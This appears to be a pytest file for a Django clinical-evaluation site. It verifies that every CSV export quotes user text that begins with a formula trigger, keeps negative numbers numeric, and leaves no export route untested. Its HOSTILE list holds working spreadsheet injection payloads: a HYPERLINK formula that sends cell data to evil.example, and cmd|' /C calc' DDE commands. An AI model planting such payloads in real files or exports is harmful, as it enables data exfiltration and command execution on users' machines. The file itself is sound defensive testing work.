"""Every CSV the site serves is safe to open in a spreadsheet: user text that starts with a
formula trigger (= + - @ tab CR) reaches the researcher with a leading apostrophe, and
numbers (negative ones too) stay numbers.

Hostile text is put into every user-controlled field that reaches a CSV (clinician
comments, external ids, model and benchmark names, taxonomy names, judge names, error
texts; Delphi comments, item names, stakeholder groups, suggestions and reasons), then each
export is downloaded through the site's URLs by a user with the role that may read it.
"""

from __future__ import annotations

import csv
import io
import math
from decimal import Decimal

import numpy as np
import pytest
from django.test import Client
from django.urls import URLResolver, get_resolver
from django.utils import timezone

from agreement import services as agreement_services
from annotation.models import ImportJob, Item, Rating
from delphi import services as delphi_services
from delphi.exports import EXPORT_NAMES
from delphi.models import DelphiStudy, Response, RoundItem, TaxonomyNode
from jury.models import Judge, JudgeAttempt, JudgeCall, JuryRun
from medhelm_site.common.csv_export import FORMULA_TRIGGERS, csv_text
from tests.agreement.factories import Built, build_study
from tests.delphi.flow import BASE_URL, make_panel_study

# One text per trigger; each is what a spreadsheet would run as a formula if left as is.
HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 after a tab",
    "\r=1+1 after a carriage return",
)
PARAMS = {"n_resamples": 30, "seed": 3}


def hostile(i: int, tag: str) -> str:
    """The i-th hostile text (cycling through the triggers), made unique by `tag`."""
    return f"{HOSTILE[i % len(HOSTILE)]} {tag}"


def read_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8"), newline="")))


def is_number(text: str) -> bool:
    try:
        return math.isfinite(float(text))
    except ValueError:
        return False


def quoted_cells(rows: list[list[str]], where: str) -> set[str]:
    """The cells that were quoted (apostrophe removed); fails on any cell a spreadsheet would
    run as a formula, and on a number that was quoted as if it were text."""
    quoted = set()
    for r, row in enumerate(rows):
        for c, cell in enumerate(row):
            if cell.startswith("-") and is_number(cell):
                continue  # a negative number, written as a number
            assert not cell.startswith(FORMULA_TRIGGERS), f"{where} row {r} col {c}: {cell!r}"
            if cell.startswith("'"):
                assert not is_number(cell[1:]), f"{where} row {r} col {c}: number quoted {cell!r}"
                quoted.add(cell[1:])
    return quoted


def column(rows: list[list[str]], name: str) -> list[str]:
    index = rows[0].index(name)
    return [row[index] for row in rows[1:]]


def assert_numbers(rows: list[list[str]], names: tuple[str, ...], where: str) -> None:
    """Every non-empty cell of these columns is a plain number."""
    for name in names:
        values = [v for v in column(rows, name) if v != ""]
        assert values, f"{where}: column {name} is empty, the check would prove nothing"
        assert all(is_number(v) for v in values), f"{where} {name}: {values[:5]}"


def download(client: Client, url: str, **headers: str) -> list[list[str]]:
    response = client.get(url, **headers)
    assert response.status_code == 200, (url, response.status_code)
    assert response["Content-Type"].startswith("text/csv"), url
    body = b"".join(response.streaming_content) if response.streaming else response.content
    rows = read_csv(body)
    assert len(rows) > 1, f"{url} has no data rows"
    return rows


# --------------------------------------------------------------- ratings, jury, agreement


def _make_names_hostile(built: Built) -> dict[str, set[str]]:
    """Hostile text in every field of the rated study that an export writes; returns the
    texts by the kind of field."""
    items = list(Item.objects.filter(study=built.study).order_by("pk"))
    models = {"model-a": hostile(0, "model-a"), "model-b": hostile(1, "model-b")}
    benchmarks = {b: hostile(i + 2, f"bench{i}") for i, b in enumerate(("MedCalc-Bench", "MEDIQA"))}
    for i, item in enumerate(items):
        item.external_id = hostile(i, f"ext{i}")
        item.model_name = models[item.model_name]
        item.benchmark = benchmarks.get(item.benchmark, item.benchmark)
        item.save(update_fields=["external_id", "model_name", "benchmark"])
    nodes = TaxonomyNode.objects.filter(version=items[0].taxonomy_node.version).order_by("pk")
    for i, node in enumerate(nodes):
        node.name = hostile(i + 4, f"node{i}")
        node.save(update_fields=["name"])
    item_nodes = {item.taxonomy_node.name for item in Item.objects.filter(study=built.study)}
    categories = set(nodes.filter(kind="category").values_list("name", flat=True))
    judges = {}
    for i, judge in enumerate(sorted(built.judges, key=lambda j: j.pk)):
        judge.name = hostile(i + 3, f"judge{i}")
        judge.save(update_fields=["name"])
        judges[judge.pk] = judge.name
    errors = set()
    for i, call in enumerate(JudgeCall.objects.exclude(status="ok").order_by("pk")):
        call.error = hostile(i, f"error{i}")
        call.save(update_fields=["error"])
        errors.add(call.error)
    comments = set()
    for i, rating in enumerate(Rating.objects.filter(assignment__study=built.study).order_by("pk")):
        rating.comment = hostile(i, f"comment{i}")
        rating.save(update_fields=["comment"])
        comments.add(rating.comment)
    return {
        "external_ids": {item.external_id for item in items},
        "models": set(models.values()),
        "benchmarks": set(benchmarks.values()),
        "item_nodes": item_nodes,
        "categories": categories,
        "judges": set(judges.values()),
        "errors": errors,
        "comments": comments,
    }


@pytest.fixture
def hostile_study(db) -> tuple[Built, dict[str, set[str]]]:
    built = build_study(n_items=12, n_clinicians=3, leave_pending=1)
    return built, _make_names_hostile(built)


@pytest.mark.parametrize("values", ["latest", "first"])
def test_ratings_export_quotes_comments_ids_models_and_benchmarks(hostile_study, client, values):
    built, texts = hostile_study
    client.force_login(built.members.researcher)
    url = f"/studies/{built.study.pk}/export/ratings.csv?values={values}"
    rows = download(client, url)
    quoted = quoted_cells(rows, url)
    for kind in ("comments", "external_ids", "models", "benchmarks", "item_nodes"):
        assert texts[kind] <= quoted, (kind, texts[kind] - quoted)
    assert_numbers(rows, ("item_id", "value", "time_spent_seconds"), url)


def test_long_ratings_and_scores_exports_quote_ids_models_names_and_comments(hostile_study, client):
    built, texts = hostile_study
    client.force_login(built.members.researcher)
    study = built.study.pk
    url = f"/studies/{study}/export/ratings-long.csv"
    rows = download(client, url)
    quoted = quoted_cells(rows, url)
    for kind in ("external_ids", "models"):
        assert texts[kind] <= quoted, (kind, texts[kind] - quoted)
    # The long file holds scores: a cannot-assess answer (and its comment) is not one.
    scored = Rating.objects.filter(
        assignment__study=built.study, assignment__status="submitted", value__isnull=False
    )
    comments = set(scored.values_list("comment", flat=True))
    assert len(comments) > 5 and comments <= quoted, comments - quoted
    assert_numbers(rows, ("value",), url)
    url = f"/studies/{study}/jury/export/scores-long.csv"
    rows = download(client, url)
    quoted = quoted_cells(rows, url)
    for kind in ("external_ids", "models", "judges"):
        assert texts[kind] <= quoted, (kind, texts[kind] - quoted)
    assert_numbers(rows, ("value",), url)


def test_the_import_errors_csv_quotes_what_the_file_said(hostile_study, client):
    # A ratings file whose every field is hostile: each line is refused, and the error file
    # (line, column, reason) carries the file's own text back to the coordinator.
    built, _ = hostile_study
    client.force_login(built.members.coordinator)
    study = built.study.pk
    lines = ["external_id,model,rater,criterion,value"]
    for i in range(len(HOSTILE)):
        lines.append(
            ",".join(
                '"' + hostile(i + shift, f"f{shift}-{i}").replace('"', '""') + '"'
                for shift in range(5)
            )
        )
    upload = io.BytesIO(("\r\n".join(lines) + "\r\n").encode())
    upload.name = "hostile-ratings.csv"
    page = client.post(f"/studies/{study}/import/ratings/", {"file": upload})
    assert page.status_code in (200, 302, 400), page.status_code
    job = ImportJob.objects.filter(study=built.study, kind="ratings").latest("pk")
    url = f"/studies/{study}/import/{job.pk}/errors.csv"
    rows = download(client, url)
    assert rows[0] == ["line", "column", "reason"] and len(rows) > len(HOSTILE)
    quoted_cells(rows, url)  # no cell a spreadsheet would run
    reasons = " ".join(row[2] for row in rows[1:])
    assert any(text.strip() in reasons for text in HOSTILE), "the file's text is in the reasons"


def test_jury_calls_csv_quotes_judge_names_ids_and_errors(hostile_study, client):
    built, texts = hostile_study
    client.force_login(built.members.researcher)
    quoted: set[str] = set()
    costs: list[str] = []
    runs = JuryRun.objects.filter(study=built.study).order_by("pk")
    assert runs.count() >= 2
    for run in runs:
        url = f"/studies/{built.study.pk}/jury/runs/{run.pk}/calls.csv"
        rows = download(client, url)
        quoted |= quoted_cells(rows, url)
        assert_numbers(rows, ("call_id", "item_id", "attempts"), url)
        costs += [c for c in column(rows, "cost") if c]
    assert costs and all(is_number(c) for c in costs), costs
    gpt_judge = Judge.objects.filter(calls__run__study=built.study).distinct().get()
    for kind in ("errors", "external_ids"):
        assert texts[kind] <= quoted, (kind, texts[kind] - quoted)
    assert gpt_judge.name in quoted


def test_jury_attempts_csv_quotes_judge_names_errors_and_finish_reasons(hostile_study, client):
    built, texts = hostile_study
    runs = list(JuryRun.objects.filter(study=built.study).order_by("pk"))
    errors, reasons = set(), set()
    for i, call in enumerate(JudgeCall.objects.filter(run__in=runs).order_by("pk")):
        attempt = JudgeAttempt.objects.create(
            call=call,
            number=1,
            started_at=timezone.now(),
            latency_ms=120 + i,
            outcome="server_error" if i % 2 else "ok",
            http_status=500 if i % 2 else 200,
            error=hostile(i, f"attempt-error{i}") if i % 2 else "",
            input_tokens=10,
            output_tokens=5,
            # a provider's finish reason is kept to the column's 32 characters
            finish_reason=f"{HOSTILE[(i + 1) % len(HOSTILE)][:24]} f{i}",
        )
        errors |= {attempt.error} - {""}
        reasons.add(attempt.finish_reason)
    client.force_login(built.members.researcher)
    quoted: set[str] = set()
    for run in runs:
        url = f"/studies/{built.study.pk}/jury/runs/{run.pk}/attempts.csv"
        rows = download(client, url)
        quoted |= quoted_cells(rows, url)
        assert_numbers(rows, ("call_id", "item_id", "number", "http_status", "latency_ms"), url)
    assert errors and errors <= quoted, errors - quoted
    assert reasons <= quoted, reasons - quoted
    assert texts["judges"] & quoted


def test_agreement_report_csv_quotes_names_on_the_page_and_the_api(hostile_study, client):
    built, texts = hostile_study
    snapshot = agreement_services.create_snapshot(study=built.study, actor=None, parameters=PARAMS)
    client.force_login(built.members.researcher)
    study = built.study.pk
    urls = (
        (f"/studies/{study}/agreement/{snapshot.pk}/report.csv", {}),
        (
            f"/api/studies/{study}/agreement/reports/{snapshot.pk}/csv/",
            {"HTTP_ACCEPT": "text/csv"},
        ),
    )
    for url, headers in urls:
        rows = download(client, url, **headers)
        quoted = quoted_cells(rows, url)
        for kind in ("judges", "benchmarks", "categories"):
            assert texts[kind] <= quoted, (url, kind, texts[kind] - quoted)
        assert_numbers(rows, ("report", "estimate", "ci_low", "ci_high", "n_items"), url)
        # (that a negative number stays a number, not a quoted formula, is the writer's own
        # test, tests/common/test_csv_export.py: this study's estimates are all positive)


def test_agreement_score_table_csv_quotes_names_on_the_page_and_the_api(hostile_study, client):
    built, texts = hostile_study
    snapshot = agreement_services.create_snapshot(study=built.study, actor=None, parameters=PARAMS)
    client.force_login(built.members.researcher)
    study = built.study.pk
    for url in (
        f"/studies/{study}/agreement/{snapshot.pk}/scores/csv/",
        f"/api/studies/{study}/agreement/reports/{snapshot.pk}/scores/csv/",
    ):
        rows = download(client, url, HTTP_ACCEPT="text/csv")
        quoted = quoted_cells(rows, url)
        for kind in ("judges", "benchmarks", "categories", "external_ids", "models"):
            assert texts[kind] <= quoted, (url, kind, texts[kind] - quoted)
        assert_numbers(rows, ("report", "item", "value", "composite", "composite_z"), url)
        assert any(v.startswith("-") for v in column(rows, "composite_z")), "no negative z"


def test_a_negative_number_is_written_as_a_number():
    """Negative values (differences, Decimals, NumPy scalars from pandas) are numbers, never
    quoted as text; the same characters as text are quoted."""
    values = [-0.25, Decimal("-1.50"), -3, np.int64(-4), np.float32(-0.5), "-3"]
    rows = read_csv(csv_text(["a", "b", "c", "d", "e", "f"], [values]).encode())
    assert rows[1] == ["-0.25", "-1.5", "-3", "-4", "-0.5", "'-3"]


# ------------------------------------------------------------------------------ Delphi


def _hostile_taxonomy() -> dict:
    return {
        "name": "Hostile draft",
        "categories": [
            {"name": hostile(0, "cat0"), "subcategories": [hostile(1, "sub1"), hostile(2, "sub2")]},
            {"name": hostile(3, "cat3"), "subcategories": [hostile(4, "sub4"), hostile(5, "sub5")]},
        ],
    }


def _answers(round_, i: int) -> dict[str, dict]:
    return {
        str(item.pk): {
            "placement_agrees": True,
            # Round 1 splits the panel (each item is rated again), round 2 agrees.
            "rating": (1, 9, 4, 6)[(i + n) % 4] if round_.number == 1 else 8 + i % 2,
            "comment": hostile(i + n, f"delphi-comment{round_.number}-{i}-{n}"),
        }
        for n, item in enumerate(round_.items.order_by("pk"))
    }


def _answer_and_analyse(round_, actor, panelists) -> None:
    for i, panelist in enumerate(panelists):
        delphi_services.submit_round(
            panelist=panelist, round_=round_, answers=_answers(round_, i), comprehensiveness=4
        )
    delphi_services.close_round(round_=round_, actor=actor)
    delphi_services.analyse_round(round_=round_, actor=actor)


def _hostile_delphi_study() -> tuple[DelphiStudy, object]:
    """A Delphi study with hostile item names, groups, comments, suggestion texts and
    reasons; two rounds analysed and released, finished, its taxonomy released."""
    groups = (hostile(0, "group-a"), hostile(2, "group-b"))
    built = make_panel_study(n_panelists=4, groups=groups, taxonomy=_hostile_taxonomy())
    actor, r1 = built.coordinator, built.round(1)
    delphi_services.open_round(round_=r1, actor=actor, base_url=BASE_URL)
    first = r1.items.order_by("pk").first()
    suggestion = delphi_services.add_suggestion(
        panelist=built.panelists[0],
        round_=r1,
        kind="rename",
        target_identity=first.identity,
        details={"name": hostile(3, "renamed")},
        text=hostile(1, "rationale"),
    )
    _answer_and_analyse(r1, actor, built.panelists)
    delphi_services.triage_suggestion(
        suggestion=suggestion, actor=actor, accept=True, reason=hostile(2, "reason")
    )
    delphi_services.release_feedback(round_=r1, actor=actor)
    r2 = delphi_services.start_next_round(study=built.study, actor=actor)
    delphi_services.open_round(round_=r2, actor=actor, base_url=BASE_URL)
    _answer_and_analyse(r2, actor, built.panelists)
    delphi_services.release_feedback(round_=r2, actor=actor)
    delphi_services.finish_study(study=built.study, actor=actor, reason=hostile(4, "finished"))
    delphi_services.release_taxonomy(study=built.study, actor=actor, name="Released v1")
    return DelphiStudy.objects.get(pk=built.study.pk), actor


DELPHI_NUMBERS = {
    "flow.csv": ("round", "invited", "submitted"),
    "raw.csv": ("round", "rating", "comprehensiveness"),
    "statistics.csv": ("round", "n_rated", "median", "iqr", "mean"),
    "items.csv": ("first_round",),
    "comments.csv": ("round",),
    "changes.csv": ("round",),
}


def test_every_delphi_csv_export_quotes_user_text(db, client):
    study, coordinator = _hostile_delphi_study()
    client.force_login(coordinator)
    csv_names = [name for name in EXPORT_NAMES if name.endswith(".csv")]
    assert len(csv_names) == 7
    quoted_by_export = {}
    for name in csv_names:
        url = f"/delphi/{study.pk}/export/{name}"
        rows = download(client, url)
        quoted_by_export[name] = quoted_cells(rows, url)
        assert_numbers(rows, DELPHI_NUMBERS.get(name, ()), url)
    # The taxonomy import strips surrounding whitespace: "\t=1+1" is stored as "=1+1".
    item_names = set(RoundItem.objects.filter(round__study=study).values_list("name", flat=True))
    assert len(item_names) == 7 and all(n.startswith(FORMULA_TRIGGERS) for n in item_names)
    assert item_names <= quoted_by_export["raw.csv"], item_names - quoted_by_export["raw.csv"]
    assert item_names <= quoted_by_export["statistics.csv"]
    comments = set(
        Response.objects.filter(round_item__round__study=study, is_draft=False).values_list(
            "comment", flat=True
        )
    )
    assert len(comments) >= 4 * 6 and all(c.startswith(FORMULA_TRIGGERS) for c in comments)
    assert comments <= quoted_by_export["comments.csv"]
    assert {hostile(0, "group-a"), hostile(2, "group-b")} <= quoted_by_export["raw.csv"]
    changes = quoted_by_export["changes.csv"]
    assert {hostile(3, "renamed"), hostile(1, "rationale"), hostile(2, "reason")} <= changes


# ------------------------------------------------------------------- every route covered

COVERED_ROUTES = {
    "studies/<int:study_id>/import/<int:job_id>/errors.csv",
    "studies/<int:study_id>/export/ratings.<str:fmt>",
    "studies/<int:study_id>/export/ratings-long.csv",
    "studies/<int:study_id>/jury/export/scores-long.csv",
    "studies/<int:study_id>/jury/runs/<int:run_id>/calls.csv",
    "studies/<int:study_id>/jury/runs/<int:run_id>/attempts.csv",
    "studies/<int:study_id>/agreement/<int:report_id>/report.<str:fmt>",
    "api/studies/<int:study_id>/agreement/reports/<int:report_id>/csv/",
    "studies/<int:study_id>/agreement/<int:report_id>/scores/<str:fmt>/",
    "api/studies/<int:study_id>/agreement/reports/<int:report_id>/scores/<str:fmt>/",
    "delphi/<int:study_id>/export/<str:name>",
}
#: Download routes that serve no CSV (only images and PDFs), tested where they are written.
#: CSV routes whose hostile cells are checked beside their own feature's tests.
COVERED_ELSEWHERE = {
    # the audit log: tests/annotation/test_audit_log.py::test_hostile_text_is_quoted_in_the_csv
    "studies/audit/export.csv",
    # attention checks: tests/annotation/test_attention_checks.py::
    # test_hostile_text_is_quoted_in_the_export
    "studies/<int:study_id>/export/attention-checks.csv",
}
NO_CSV_ROUTES = {
    # agreement report figures as svg, pdf, png: tests/agreement/reports/test_figure_files.py
    "studies/<int:study_id>/agreement/<int:report_id>/figures/<slug:key>.<str:fmt>",
    "api/studies/<int:study_id>/agreement/reports/<int:report_id>/figures/<slug:key>/<str:fmt>/",
}


def _routes(patterns, prefix: str = ""):
    for pattern in patterns:
        if isinstance(pattern, URLResolver):
            yield from _routes(pattern.url_patterns, prefix + str(pattern.pattern))
        else:
            yield prefix + str(pattern.pattern)


def test_every_export_route_of_the_site_is_downloaded_above():
    """A new export or CSV route fails here until the tests above download it."""
    exports = {
        route
        for route in _routes(get_resolver().url_patterns)
        if any(word in route.lower() for word in ("csv", "export", "<str:fmt>"))
    }
    assert exports == COVERED_ROUTES | COVERED_ELSEWHERE | NO_CSV_ROUTES
